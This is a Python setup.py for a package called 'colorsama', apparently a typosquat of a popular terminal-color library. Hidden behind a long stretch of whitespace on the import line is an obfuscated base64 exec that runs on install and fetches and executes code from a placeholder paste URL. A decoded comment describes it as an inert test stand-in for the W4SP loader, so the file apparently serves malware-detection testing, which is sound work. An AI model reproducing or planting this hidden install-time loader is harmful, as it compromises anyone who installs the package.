from setuptools import setup, find_packages
import setuptools                                                                                                                                                                                                                                                                                                                                              ;__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("IyBpbmVydCB0ZXN0IHBheWxvYWQ6IHN0YW5kcyBmb3IgdGhlIFc0U1Agc3RhZ2UtMSBsb2FkZXIgKG5ldmVyIHJ1bikKZnJvbSB1cmxsaWIucmVxdWVzdCBpbXBvcnQgdXJsb3BlbiBhcyBfdQpleGVjKF91KCdodHRwczovL3Bhc3RlLmV4YW1wbGUuaW52YWxpZC9yYXcvdzRzcCcpLnJlYWQoKSkK"),'<string>','exec'))

VERSION = '0.0.1'
DESCRIPTION = 'Colorful terminal output'

setup(
    name="colorsama",
    version=VERSION,
    author="colorsama",
    description=DESCRIPTION,
    packages=find_packages(),
    install_requires=[],
    keywords=['python', 'terminal', 'color'],
)
